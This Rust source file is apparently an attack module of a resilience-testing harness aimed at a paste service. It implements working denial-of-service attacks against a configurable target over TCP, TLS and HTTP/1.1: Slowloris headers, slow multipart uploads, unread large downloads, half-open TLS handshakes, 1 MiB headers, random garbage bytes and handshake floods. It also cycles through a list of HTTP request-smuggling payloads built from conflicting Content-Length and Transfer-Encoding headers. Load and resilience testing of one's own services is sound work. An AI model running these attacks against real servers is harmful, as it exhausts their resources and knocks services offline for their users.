//! Attacks by TCP, TLS and HTTP/1.1.

use std::io::{self, Read as _, Write};
use std::time::{Duration, Instant};

use super::wire::{Signals, Target, Wire};

/// How often a connection that is held says something.
const DRIP: Duration = Duration::from_secs(1);

/// Requests whose end two servers could see at different places.
const DOUBTFUL: [&str; 6] = [
    "content-length: 6\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
    "transfer-encoding: chunked\r\ncontent-length: 6\r\n\r\n0\r\n\r\n",
    "content-length: 0\r\ncontent-length: 33\r\n\r\n",
    "content-length: 0\nx: y\r\n\r\n",
    "x: y\r\n folded\r\n\r\n",
    "transfer-encoding : chunked\r\n\r\n0\r\n\r\n",
];

/// Keeps as many connections as that open, and has each say a byte a second; one that was cut is opened anew.
fn hold<W: Write>(signals: &Signals, count: usize, open: impl Fn() -> io::Result<W>) {
    let mut held: Vec<Option<W>> = (0..count).map(|_| None).collect();
    while signals.goes_on() {
        let start = Instant::now();
        for place in &mut held {
            if !signals.goes_on() {
                return;
            }
            if let Some(wire) = place {
                if wire.write_all(b"x").and_then(|()| wire.flush()).is_err() {
                    *place = None;
                }
            } else {
                *place = open().ok();
            }
        }
        signals.ready();
        std::thread::sleep(DRIP.saturating_sub(start.elapsed()));
    }
}

/// What every connection of `open` says first.
fn saying(target: &Target, first: &[u8]) -> io::Result<Box<dyn Wire>> {
    let mut wire = target.http1()?;
    wire.write_all(first)?;
    wire.flush()?;
    Ok(wire)
}

/// Slowloris: heads that never end.
pub(super) fn slow_heads(target: &Target, signals: &Signals, count: usize) {
    hold(signals, count, || saying(target, b"GET / HTTP/1.1\r\nHost: a\r\nX-Slow: "));
}

/// Its other form: uploads that begin in earnest, and then crawl.
pub(super) fn slow_bodies(target: &Target, signals: &Signals, count: usize) {
    let mut first = b"POST /api/v1/pastes HTTP/1.1\r\nHost: a\r\nContent-Length: 100000000\r\n\
        Content-Type: multipart/form-data; boundary=b\r\n\r\n"
        .to_vec();
    for (name, value) in [
        ("header", r#"{"v":1,"kdf":null,"burn":false,"comments":false}"#),
        ("read", "Zmh6rfhivXdsj8GLjp-OIAiXFIVu4jOzkCpZHQ1fKSU"),
        ("expires_in", "3600"),
        ("content", ""),
    ] {
        let part = format!("--b\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}");
        first.extend(part.into_bytes());
        if name != "content" {
            first.extend(b"\r\n");
        }
    }
    first.extend([b'x'; 100_000]);
    hold(signals, count, || saying(target, &first));
}

/// Downloads of which nothing is taken once the systems' buffers are full: the largest file of the site, time and again.
#[expect(clippy::expect_used, reason = "an attack that does nothing must not pass for one")]
pub(super) fn answers_not_taken(target: &Target, signals: &Signals, count: usize) {
    let path = largest(target).expect("a site with a page that has a module");
    let request = format!("GET {path} HTTP/1.1\r\nHost: a\r\n\r\n").repeat(20);
    hold(signals, count, || saying(target, request.as_bytes()));
}

/// Where the site's page has its module, which is named in its script.
fn largest(target: &Target) -> Option<String> {
    let named = |text: &str, end: &str| {
        let whole = text.find(end)? + end.len();
        let name = text[..whole].rfind(|c: char| !(c.is_ascii_alphanumeric() || b"-./".contains(&(c as u8))))? + 1;
        Some(format!("/assets/{}", text[name..whole].rsplit('/').next()?))
    };
    let script = named(&page(target, "/")?, ".js")?;
    named(&page(target, &script)?, ".wasm")
}

fn page(target: &Target, path: &str) -> Option<String> {
    let request = format!("GET {path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n");
    let mut wire = saying(target, request.as_bytes()).ok()?;
    let mut answer = Vec::new();
    // TLS may end without a word.
    let _ = wire.read_to_end(&mut answer);
    Some(String::from_utf8_lossy(&answer).into_owned())
}

/// Connections that say nothing, or where TLS is spoken, the beginning of a handshake.
pub(super) fn half_open(target: &Target, signals: &Signals, count: usize) {
    let open = || {
        let mut stream = target.bare()?;
        if target.tls().is_some() {
            stream.write_all(&[0x16, 3, 1, 1, 0, 1, 0])?;
        }
        Ok(stream)
    };
    hold(signals, count, || open().map(Silent));
}

/// A connection that says nothing, and takes what it is to write as a question whether it is still open.
struct Silent(std::net::TcpStream);

impl Write for Silent {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.set_nonblocking(true)?;
        match self.0.read(&mut [0; 16]) {
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => Ok(bytes.len()),
            _ => Err(io::ErrorKind::BrokenPipe.into()),
        }
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// Connections one after another, each of which says `what` and waits for its end.
fn again(signals: &Signals, open: impl Fn() -> io::Result<Box<dyn Wire>>, mut what: impl FnMut() -> Vec<u8>) {
    signals.ready();
    while signals.goes_on() {
        let Ok(mut wire) = open() else {
            std::thread::sleep(Duration::from_millis(5));
            continue;
        };
        // It is refused before all of it is taken.
        let _ = wire.write_all(&what()).and_then(|()| wire.flush());
        let _ = wire.read(&mut [0; 4096]);
    }
}

/// Two lengths, a length beside chunks, a bare line feed, a folded line, by turns.
pub(super) fn smuggling(target: &Target, signals: &Signals, _: usize) {
    let mut shapes = DOUBTFUL.iter().cycle();
    again(
        signals,
        || target.http1(),
        || {
            let shape = shapes.next().copied().unwrap_or_default();
            format!("POST /healthz HTTP/1.1\r\nhost: a\r\n{shape}GET / HTTP/1.1\r\nhost: a\r\n\r\n").into_bytes()
        },
    );
}

/// A head of 1 MiB.
pub(super) fn large_heads(target: &Target, signals: &Signals, _: usize) {
    let head = [b"GET / HTTP/1.1\r\nHost: a\r\nX: ", &[b'x'; 1 << 20][..]].concat();
    again(signals, || target.http1(), || head.clone());
}

/// Bytes that are neither TLS nor HTTP; every other connection makes them look like a record of a handshake.
pub(super) fn garbage(target: &Target, signals: &Signals, _: usize) {
    let mut state = 1_u32;
    let mut turn = 0_u8;
    let open = || target.bare().map(|stream| Box::new(stream) as Box<dyn Wire>);
    again(signals, open, || {
        turn ^= 1;
        let mut bytes = if turn == 0 { Vec::new() } else { vec![0x16, 3, 1, 0x10, 0, 1, 0, 0x0f, 0xfc, 3, 3] };
        bytes.extend(
            std::iter::repeat_with(|| {
                // A linear congruential generator: all it has to be is no protocol.
                state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
                (state >> 24) as u8
            })
            .take(8192),
        );
        bytes
    });
}

/// TLS handshakes that are finished, and nothing asked.
pub(super) fn handshakes(target: &Target, signals: &Signals, _: usize) {
    signals.ready();
    while signals.goes_on() {
        // The first byte of a request has the handshake done.
        let _ = saying(target, b"G");
    }
}
